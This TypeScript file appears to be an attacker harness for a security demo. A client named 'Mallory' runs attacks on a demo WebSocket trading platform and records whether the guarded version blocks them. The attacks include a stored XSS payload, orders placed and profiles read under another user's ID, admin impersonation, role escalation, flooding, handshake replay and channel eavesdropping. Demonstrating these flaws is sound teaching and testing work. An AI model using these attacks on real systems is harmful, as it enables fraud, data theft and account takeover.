// Mallory's own window at a platform: he has an account, and writes by hand what the
// page would not let him. It runs on the origin of the platform, as any customer's
// page does, signed in with his token and not with the cookie of this browser.
import { serveParent } from './shared/bridge.ts';
import type { Outcome } from './shared/outcome.ts';
import { loadSite, type Side } from './shared/site.ts';
import { Wire, type Message } from './shared/wire.ts';

/** What marks the page of whoever reads it; it touches nothing else. */
const payload = `<img src="data:," alt="" onerror="document.body.dataset.owned = document.getElementById('user').textContent">`;

class Mallory {
  private token = '';
  constructor(private side: Side, readonly wire = new Wire()) {}

  get guarded(): boolean { return this.side.ticket !== undefined; }

  async signIn(): Promise<void> {
    const answer = await fetch('/login', {
      method: 'POST',
      credentials: 'omit', // the cookie of this browser is the victim's
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ user: 'mallory', password: 'mallory-demo' }),
    });
    if (!answer.ok) throw new Error(`the platform refuses mallory’s sign-in: ${answer.status}`);
    this.token = ((await answer.json()) as { token: string }).token;
    this.wire.note('mallory signs in at the platform');
  }

  async signOut(): Promise<void> {
    await fetch('/logout', { method: 'POST', credentials: 'omit', headers: { Authorization: `Bearer ${this.token}` } });
    this.wire.note('mallory’s session is ended, as when an account is suspended');
  }

  /** What the page of the platform connects with: a ticket, or the token in the URL. */
  async credential(): Promise<{ url: string; protocols: string[] }> {
    if (this.side.ticket === undefined) return this.tokenURL();
    const answer = await fetch(this.side.ticket, {
      method: 'POST',
      credentials: 'omit',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${this.token}` },
      body: '{}',
    });
    const { ticket, detail } = (await answer.json()) as { ticket?: string; detail?: string };
    if (!ticket) throw new Error(`no ticket: ${detail ?? answer.status}`);
    this.wire.note(`POST ${this.side.ticket} gives a ticket`);
    return { url: this.side.socket, protocols: ['wswarden.v1', `wst.${ticket}`] };
  }

  tokenURL(): { url: string; protocols: string[] } {
    return { url: `${this.side.socket}?token=${encodeURIComponent(this.token)}`, protocols: [] };
  }

  /** Opens a socket as the page of the platform does. */
  async enter(): Promise<void> {
    await this.signIn();
    const { url, protocols } = await this.credential();
    if (!await this.wire.open(url, protocols) || !await this.wire.answer('welcome')) {
      throw new Error('the platform does not let mallory in');
    }
  }
}

type Attack = (mallory: Mallory) => Promise<Outcome>;

/** Sends one message and judges the answer of this type. */
function says(message: object, type: string, judge: (answer: Message, wire: Wire) => Outcome): Attack {
  return async (mallory) => {
    await mallory.enter();
    mallory.wire.send(message);
    const answer = await mallory.wire.answer(type);
    return answer?.type === type ? judge(answer, mallory.wire) : mallory.wire.failed(answer);
  };
}

const echo = (n: number): string => JSON.stringify({ type: 'echo', text: 'x'.repeat(n) });

const attacks: Record<string, Attack> = {
  // Whether it fires is for the page of the victim to say.
  xss: says({ type: 'chat', text: payload }, 'chat', (answer, wire) =>
    String(answer.message).includes('<img')
      ? wire.worked('the markup reaches everybody as markup')
      : wire.changed('it reaches everybody as text', 'message.clean', 'chat')),

  order: says({ type: 'place_order', userId: 'alice', symbol: 'AAPL', quantity: 5, price: 1000 }, 'order', (answer, wire) =>
    answer.userId === 'alice'
      ? wire.worked('alice pays 5,000')
      : wire.changed(`${String(answer.userId)} pays himself`, 'message.set', 'place_order')),

  profile: says({ type: 'get_profile', userId: 'alice' }, 'profile', (answer, wire) =>
    wire.worked(`has the profile of ${String(answer['name'])}, with balance and tax number`)),

  speak: says({ type: 'chat', username: 'admin', text: 'Please confirm your password to me.' }, 'chat', (answer, wire) =>
    answer.user === 'admin'
      ? wire.worked('everybody reads it as the admin’s')
      : wire.changed(`everybody reads it as ${String(answer.user)}’s`, 'message.set', 'chat')),

  role: says({ type: 'set_role', userId: 'mallory', role: 'admin' }, 'role', (_, wire) => wire.worked('mallory is an admin')),

  async flood(mallory) {
    await mallory.enter();
    const count = 500;
    mallory.wire.note(`${count} messages at once`);
    for (let i = 0; i < count; i++) mallory.wire.sendQuietly(echo(16));
    for (let i = 0; i < count; i++) {
      const answer = await mallory.wire.answer('echo');
      if (answer?.type !== 'echo') return mallory.wire.failed(answer);
    }
    return mallory.wire.worked(`all ${count} are answered`);
  },

  async oversized(mallory) {
    await mallory.enter();
    mallory.wire.send(echo(1 << 20), 'a message of 1 MiB');
    const answer = await mallory.wire.answer('echo');
    return answer?.type === 'echo' ? mallory.wire.worked('taken, and answered whole') : mallory.wire.failed(answer);
  },

  /** Whoever has seen a handshake, in a log or on a screen, sends it again. */
  async replay(mallory) {
    await mallory.signIn();
    const { url, protocols } = await mallory.credential();
    const first = new Wire();
    if (!await first.open(url, protocols)) throw new Error('the first use was refused');
    first.close();
    mallory.wire.note('used once by its owner; now a second time:');
    if (!await mallory.wire.open(url, protocols)) return mallory.wire.failed(null);
    const welcome = await mallory.wire.answer('welcome');
    return welcome?.user ? mallory.wire.worked(`served again as ${welcome.user}`) : mallory.wire.failed(welcome);
  },

  async url(mallory) {
    await mallory.signIn();
    const { url } = mallory.tokenURL();
    if (!await mallory.wire.open(url)) return mallory.wire.failed(null);
    const welcome = await mallory.wire.answer('welcome');
    return welcome?.user ? mallory.wire.worked(`served as ${welcome.user}; the token is in every log on the way`) : mallory.wire.failed(welcome);
  },

  async revoked(mallory) {
    await mallory.enter();
    await mallory.signOut();
    const ended = await mallory.wire.next(() => false, 3500);
    if (ended === null && mallory.wire.ending) return mallory.wire.failed(null);
    mallory.wire.send({ type: 'place_order', userId: 'mallory', symbol: 'AAPL', quantity: 1, price: 190 });
    const answer = await mallory.wire.answer('order');
    return answer?.type === 'order' ? mallory.wire.worked('still served 3.5 s later, and trades') : mallory.wire.failed(answer);
  },
};

/** The socket that listens to somebody else's channel, between the two calls. */
let listening: Mallory | null = null;

async function subscribe(side: Side): Promise<Outcome | null> {
  const mallory = new Mallory(side);
  await mallory.enter();
  mallory.wire.send({ type: 'subscribe', channel: 'orders:alice' });
  const answer = await mallory.wire.answer('subscribed');
  if (answer?.type !== 'subscribed') return mallory.wire.failed(answer);
  listening = mallory;
  return null;
}

async function overhear(): Promise<Outcome> {
  if (!listening) throw new Error('nobody listens');
  const { wire } = listening;
  listening = null;
  const order = await wire.next((m) => m.type === 'order' && m.userId === 'alice', 3000);
  if (!order) return wire.failed(null);
  return wire.worked(`sees that alice buys ${String(order['quantity'])} ${String(order['symbol'])} at ${String(order['price'])}`);
}

async function start(): Promise<void> {
  const site = await loadSite();
  const side = location.origin === site.guarded.page ? site.guarded : site.unguarded;
  serveParent(site.page, {
    attack: ({ name }: { name: string }) => {
      const attack = Object.hasOwn(attacks, name) ? attacks[name] : undefined;
      if (!attack) throw new Error(`there is no attack ${name}`);
      return attack(new Mallory(side));
    },
    subscribe: () => subscribe(side),
    overhear,
  });
}

void start();
